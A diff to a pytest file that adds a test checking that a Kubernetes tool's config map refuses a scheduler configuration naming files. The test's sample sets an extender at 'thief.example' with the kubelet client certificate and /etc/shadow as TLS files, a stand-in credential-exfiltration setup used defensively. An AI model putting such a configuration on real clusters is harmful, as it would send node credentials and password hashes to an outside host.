@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import json
+
 import pytest
 
 from tests.cluster.harness.cluster import CAREEN
@@ -51,4 +53,29 @@ def test_a_command_in_the_config_map_is_refused_by_name_while_agents_run_and_whe
     story.agents_answer()
     assert f"{metric}1.0" in story.metrics(host)
     host.crashes = [each for each in host.crashes if each[1] != 2]  # refused at the start, as it should be
+    story.judge()
+
+
+def test_a_scheduler_configuration_in_the_config_map_that_names_files_is_refused(story: Story) -> None:
+    """The extender would be asked by root, with any certificate of the host that the editor names."""
+    (host,) = story.nodes(1)
+    names_files = {
+        "apiVersion": "kubescheduler.config.k8s.io/v1",
+        "kind": "KubeSchedulerConfiguration",
+        "extenders": [
+            {
+                "urlPrefix": "https://thief.example",
+                "filterVerb": "filter",
+                "tlsConfig": {"certFile": "/var/lib/kubelet/pki/kubelet-client-current.pem", "keyFile": "/etc/shadow"},
+            }
+        ],
+    }
+    data = {"config.yaml": "scheduler-config: configmap:scheduler.yaml\n", "scheduler.yaml": json.dumps(names_files)}
+    story.admin.patch(f"/api/v1/namespaces/{CAREEN.namespace}/configmaps/careen", {"data": data})
+    story.wait_for("the edit is refused", lambda: f'careen_config_ok{{node="{host.name}"}} 0.0' in story.metrics(host))
+    for name in ("certFile", "keyFile"):
+        assert f"extenders[0].tlsConfig.{name}: must not name a file here" in log_of(host)
+    assert "--config-map-may-name-files" in log_of(host)
+    story.settings(concurrency=1)
+    story.agents_answer()
     story.judge()
